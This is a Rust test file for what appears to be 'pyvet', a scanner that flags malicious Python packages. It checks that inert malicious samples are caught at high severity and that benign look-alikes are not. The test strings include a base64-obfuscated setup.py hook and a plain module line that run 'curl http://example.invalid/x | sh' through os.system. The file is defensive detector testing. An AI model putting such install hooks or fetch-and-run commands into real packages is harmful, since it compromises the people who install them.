//! Runs the inspection engine over the inert samples in `testdata/samples/`: every malicious
//! sample must produce its expected rule at high or critical, and no benign look-alike may
//! produce any high or critical finding. The mapping lives in
//! `testdata/samples/expectations.tsv`; every sample file must appear there.

use std::collections::HashSet;
use std::path::Path;

use pyvet::archive::{ArchiveContents, ArchiveEntry};
use pyvet::finding::{Finding, Severity};
use pyvet::package::ArtifactKind;

fn samples_dir() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/samples"))
}

fn inspect_one(sample: &str, path_in_artifact: &str) -> Vec<Finding> {
    let data =
        std::fs::read(samples_dir().join(sample)).unwrap_or_else(|e| panic!("{sample}: {e}"));
    inspect_bytes(path_in_artifact, data)
}

fn inspect_bytes(path_in_artifact: &str, data: Vec<u8>) -> Vec<Finding> {
    let filename = if path_in_artifact.starts_with("pkg-1.0/") {
        "pkg-1.0.tar.gz"
    } else {
        "pkg-1.0-py3-none-any.whl"
    };
    let contents = ArchiveContents {
        filename: filename.to_string(),
        kind: ArtifactKind::from_filename(filename),
        entries: vec![ArchiveEntry {
            path: path_in_artifact.to_string(),
            data: data.into(),
        }],
        findings: Vec::new(),
        metadata: None,
    };
    pyvet::inspect::inspect(&contents, &Default::default())
}

fn table() -> Vec<(String, String, String)> {
    let text =
        std::fs::read_to_string(samples_dir().join("expectations.tsv")).expect("expectations.tsv");
    text.lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(|l| {
            let cols: Vec<&str> = l.split('\t').collect();
            assert_eq!(cols.len(), 3, "bad expectations line: {l}");
            (
                cols[0].to_string(),
                cols[1].to_string(),
                cols[2].to_string(),
            )
        })
        .collect()
}

fn describe(findings: &[Finding]) -> String {
    findings
        .iter()
        .map(|f| {
            format!(
                "  {} {} line {:?}: {}",
                f.severity, f.rule, f.location.line, f.message
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn malicious_samples_are_caught_at_high_or_critical() {
    let mut failures = Vec::new();
    let mut checked = 0;
    for (sample, path, rule) in table()
        .into_iter()
        .filter(|(s, _, _)| s.starts_with("malicious/"))
    {
        let findings = inspect_one(&sample, &path);
        let hit = findings
            .iter()
            .any(|f| f.rule == rule && f.severity >= Severity::High);
        if !hit {
            failures.push(format!(
                "{sample} (as {path}): expected {rule} at high+, got:\n{}",
                describe(&findings)
            ));
        }
        for f in &findings {
            assert_eq!(
                f.artifact
                    .as_deref()
                    .map(|a| a.ends_with(".whl") || a.ends_with(".tar.gz")),
                Some(true)
            );
            assert_eq!(f.location.path.as_deref(), Some(path.as_str()));
        }
        checked += 1;
    }
    assert!(checked >= 30, "only {checked} malicious samples listed");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn benign_lookalikes_have_no_high_findings() {
    let mut failures = Vec::new();
    for (sample, path, rule) in table()
        .into_iter()
        .filter(|(s, _, _)| s.starts_with("benign/"))
    {
        assert_eq!(rule, "-", "benign samples expect no rule");
        let findings = inspect_one(&sample, &path);
        let bad: Vec<Finding> = findings
            .into_iter()
            .filter(|f| f.severity >= Severity::High)
            .collect();
        if !bad.is_empty() {
            failures.push(format!("{sample} (as {path}):\n{}", describe(&bad)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn every_sample_is_listed() {
    let listed: HashSet<String> = table().into_iter().map(|(s, _, _)| s).collect();
    for dir in ["malicious", "benign"] {
        for e in std::fs::read_dir(samples_dir().join(dir))
            .expect("dir")
            .flatten()
        {
            let name = format!("{dir}/{}", e.file_name().to_string_lossy());
            assert!(listed.contains(&name), "{name} is not in expectations.tsv");
        }
    }
}

#[test]
fn evidence_shows_decoded_payload() {
    let findings = inspect_one("malicious/init_exec_b64.py", "pkg/__init__.py");
    let f = findings
        .iter()
        .find(|f| f.rule == "exec-decoded")
        .expect("exec-decoded");
    let ev = f.evidence.as_deref().unwrap_or("");
    assert!(ev.contains("decoded: import os"), "{ev}");
    // The decoded code is inspected too: its os.system call is seen.
    let rot = inspect_one("malicious/rot13_url.py", "pkg/net.py");
    assert!(rot.iter().any(|f| f
        .evidence
        .as_deref()
        .unwrap_or("")
        .contains("https://payload.example.invalid/x")));
}

#[test]
fn truncated_and_mangled_samples_never_panic() {
    // Hostile input is normal input: every prefix-truncation and byte-flip of every sample
    // must be inspected without panicking.
    for (sample, path, _) in table() {
        let data = std::fs::read(samples_dir().join(&sample)).expect("sample");
        let mut entries = Vec::new();
        let step = (data.len() / 16).max(1);
        for (i, cut) in (0..data.len()).step_by(step).enumerate() {
            entries.push(ArchiveEntry {
                path: format!("{path}.{i}.py"),
                data: data[..cut].to_vec().into(),
            });
            let mut flipped = data.clone();
            flipped[cut] ^= 0xa5;
            entries.push(ArchiveEntry {
                path: format!("{path}.{i}.flip.py"),
                data: flipped.into(),
            });
        }
        let contents = ArchiveContents {
            filename: "pkg-1.0.tar.gz".into(),
            kind: ArtifactKind::Sdist,
            entries,
            findings: Vec::new(),
            metadata: None,
        };
        let _ = pyvet::inspect::inspect(&contents, &Default::default());
    }
}

fn inspect_text(path_in_artifact: &str, text: &str) -> Vec<Finding> {
    inspect_bytes(path_in_artifact, text.as_bytes().to_vec())
}

#[test]
fn code_findings_say_which_token_matched_when_it_runs_and_what_was_decoded() {
    use pyvet::finding::Runs;
    // An install hook that decodes a command and runs it: the finding must name the call
    // that matched, say it runs at install time, and carry the decoded command.
    let setup = "import base64, os\nfrom setuptools import setup\n\
                 os.system(base64.b64decode('Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA==').decode())\n\
                 setup(name='pkg')\n";
    let findings = inspect_text("pkg-1.0/setup.py", setup);
    let f = findings
        .iter()
        .filter(|f| f.severity >= Severity::High && f.location.line == Some(3))
        .find(|f| f.matched.is_some())
        .unwrap_or_else(|| {
            panic!(
                "no high finding with a matched token:\n{}",
                describe(&findings)
            )
        });
    let token = f.matched.as_deref().unwrap();
    assert!(
        f.evidence.as_deref().unwrap_or("").contains(token),
        "matched token {token:?} is not in the evidence {:?}",
        f.evidence
    );
    assert!(
        token.contains("system") || token.contains("b64decode"),
        "{token}"
    );
    assert_eq!(f.runs, Some(Runs::Install), "{}", describe(&findings));
    assert!(
        findings.iter().any(|f| f
            .decoded
            .as_deref()
            .is_some_and(|d| d.contains("example.invalid/x | sh"))),
        "no finding carries the decoded command:\n{}",
        describe(&findings)
    );

    // The same call in a function body of a module runs only when called.
    let module = "import os\ndef go():\n    os.system('curl http://example.invalid/x | sh')\n";
    let findings = inspect_text("pkg/tool.py", module);
    assert!(
        findings
            .iter()
            .filter(|f| f.location.line == Some(3))
            .all(|f| f.runs == Some(Runs::Call)),
        "{}",
        describe(&findings)
    );
}
